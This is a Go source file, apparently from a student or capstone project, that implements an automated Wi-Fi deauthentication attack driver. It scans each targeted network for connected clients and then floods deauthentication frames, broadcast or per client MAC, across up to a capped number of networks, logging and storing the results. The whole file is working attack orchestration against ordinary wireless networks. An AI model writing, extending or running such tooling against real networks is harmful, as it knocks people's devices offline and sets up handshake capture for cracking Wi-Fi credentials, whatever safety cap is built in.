package attack

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"sort"
	"time"

	"github.com/iyow2233/capstone/internal/core/domain"
	"github.com/iyow2233/capstone/internal/core/ports"
	"github.com/iyow2233/capstone/internal/logging"
	"github.com/iyow2233/capstone/internal/telemetry"
	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/codes"
)

// Config holds the per-run attack parameters.
type Config struct {
	Cap                int
	ClientScanDuration time.Duration
	DeauthDuration     time.Duration
	ClientDeauthTime   time.Duration // per client, continuous per-client runs only
	PacketCount        int
	Policy             domain.DeauthPolicy
}

// DefaultConfig mirrors the command line defaults.
func DefaultConfig() Config {
	return Config{
		Cap:                domain.MaxAttackNetworks,
		ClientScanDuration: 15 * time.Second,
		DeauthDuration:     30 * time.Second,
		ClientDeauthTime:   5 * time.Second,
		Policy:             domain.PolicyBroadcast,
	}
}

// Driver runs the client scan and deauthentication sequence against each
// matched network in turn.
type Driver struct {
	clients  ports.ClientScanner
	deauther ports.Deauther
	store    ports.SessionStore
	cfg      Config
	logger   *slog.Logger
}

// NewDriver creates an attack driver. The cap is clamped to
// domain.MaxAttackNetworks.
func NewDriver(clients ports.ClientScanner, deauther ports.Deauther, cfg Config, logger *slog.Logger) *Driver {
	if cfg.Cap <= 0 || cfg.Cap > domain.MaxAttackNetworks {
		cfg.Cap = domain.MaxAttackNetworks
	}
	if cfg.Policy == "" {
		cfg.Policy = domain.PolicyBroadcast
	}
	if logger == nil {
		logger = slog.Default()
	}
	return &Driver{clients: clients, deauther: deauther, cfg: cfg, logger: logger}
}

// SetStore enables persistence of attack results.
func (d *Driver) SetStore(store ports.SessionStore) {
	d.store = store
}

// Config returns the effective configuration.
func (d *Driver) Config() Config {
	return d.cfg
}

// Run attacks at most Cap of matched, in order. Failures on one network
// never stop the run; cancellation of ctx does, and networks not yet
// started are left out of the summary.
func (d *Driver) Run(ctx context.Context, sessionID, iface string, matched []domain.NetworkRecord) *domain.RunSummary {
	summary := &domain.RunSummary{
		SessionID: sessionID,
		Matched:   len(matched),
		StartTime: time.Now(),
	}
	defer func() { summary.EndTime = time.Now() }()

	selected := matched
	if len(matched) > d.cfg.Cap {
		selected = matched[:d.cfg.Cap]
		summary.Dropped = append([]domain.NetworkRecord(nil), matched[d.cfg.Cap:]...)
		d.logger.Warn(fmt.Sprintf("Found %d matching networks, but will only attack the first %d for safety", len(matched), d.cfg.Cap))
		for _, n := range summary.Dropped {
			d.logger.Warn("Skipping network over the safety cap", "essid", n.ESSID, "bssid", n.BSSID)
		}
	}

	logging.Success(d.logger, fmt.Sprintf("Found %d target networks. Starting attacks...", len(selected)))
	for _, network := range selected {
		if ctx.Err() != nil {
			d.logger.Warn("Attack sequence stopped", "remaining", len(selected)-len(summary.Attacks))
			break
		}
		attack := d.Attack(ctx, iface, network)
		summary.Attacks = append(summary.Attacks, attack)
		d.persist(sessionID, attack)
	}

	if ctx.Err() == nil {
		logging.Success(d.logger, "All attacks completed")
	}
	return summary
}

// Attack runs the sequence against a single network. It always returns a
// terminal NetworkAttack.
func (d *Driver) Attack(ctx context.Context, iface string, network domain.NetworkRecord) (attack *domain.NetworkAttack) {
	attack = domain.NewNetworkAttack(network)

	ctx, span := telemetry.Tracer().Start(ctx, "attack.network")
	span.SetAttributes(
		attribute.String("bssid", network.BSSID),
		attribute.Int("channel", network.Channel),
	)
	defer func() {
		if r := recover(); r != nil {
			attack.Fail(fmt.Errorf("panic: %v", r))
		}
		if attack.State == domain.AttackFailed {
			span.SetStatus(codes.Error, attack.Error)
			d.logger.Error("Error attacking network", "essid", network.ESSID, "error", attack.Error)
		} else {
			logging.Success(d.logger, "Completed attack on network", "essid", network.ESSID, "duration", attack.Duration().Round(time.Second))
		}
		telemetry.NetworkAttacks.WithLabelValues(string(attack.State)).Inc()
		span.End()
	}()

	d.logger.Info("Starting automated attack on network", "essid", network.ESSID, "bssid", network.BSSID, "channel", network.Channel)

	if err := attack.Advance(domain.AttackScanningClients); err != nil {
		attack.Fail(err)
		return attack
	}
	clients, err := d.clients.Scan(ctx, iface, network, d.cfg.ClientScanDuration)
	if err != nil {
		if ctx.Err() != nil {
			attack.Fail(ctx.Err())
			return attack
		}
		// Deauth still fires; broadcast reaches clients the scan missed.
		d.logger.Warn("Client scan failed", "bssid", network.BSSID, "error", err)
	}
	attack.Clients = clients
	span.SetAttributes(attribute.Int("clients", len(clients)))

	if err := attack.Advance(domain.AttackDeauthing); err != nil {
		attack.Fail(err)
		return attack
	}
	if err := d.deauth(ctx, iface, attack); err != nil {
		attack.Fail(err)
		return attack
	}

	if err := attack.Advance(domain.AttackCompleted); err != nil {
		attack.Fail(err)
	}
	return attack
}

func (d *Driver) deauth(ctx context.Context, iface string, attack *domain.NetworkAttack) error {
	bssid := attack.Network.BSSID
	if d.cfg.Policy != domain.PolicyPerClient || len(attack.Clients) == 0 {
		attack.Broadcast = true
		d.logger.Info("Deauthenticating all clients", "bssid", bssid, "duration", d.cfg.DeauthDuration)
		return d.deauther.Deauth(ctx, domain.DeauthRequest{
			Interface:   iface,
			BSSID:       bssid,
			PacketCount: d.cfg.PacketCount,
			Duration:    d.cfg.DeauthDuration,
		})
	}

	// A burst ends on its own; the deauth duration only bounds it.
	perClient := d.cfg.DeauthDuration
	if d.cfg.PacketCount == 0 {
		perClient = d.cfg.ClientDeauthTime
	}

	macs := make([]string, 0, len(attack.Clients))
	for mac := range attack.Clients {
		macs = append(macs, mac)
	}
	sort.Strings(macs)

	d.logger.Info("Deauthenticating specific clients", "bssid", bssid, "clients", len(macs))
	var errs []error
	for _, mac := range macs {
		if err := ctx.Err(); err != nil {
			return err
		}
		d.logger.Info("Deauthenticating client", "mac", mac)
		err := d.deauther.Deauth(ctx, domain.DeauthRequest{
			Interface:   iface,
			BSSID:       bssid,
			ClientMAC:   mac,
			PacketCount: d.cfg.PacketCount,
			Duration:    perClient,
		})
		if err != nil {
			if ctx.Err() != nil {
				return ctx.Err()
			}
			d.logger.Error("Error during deauth of client", "mac", mac, "error", err)
			errs = append(errs, fmt.Errorf("%s: %w", mac, err))
		}
	}
	if len(errs) == len(macs) {
		return errors.Join(errs...)
	}
	return nil
}

func (d *Driver) persist(sessionID string, attack *domain.NetworkAttack) {
	if d.store == nil {
		return
	}
	if err := d.store.SaveAttack(sessionID, attack); err != nil {
		d.logger.Warn("Failed to save attack result", "bssid", attack.Network.BSSID, "error", err)
	}
}
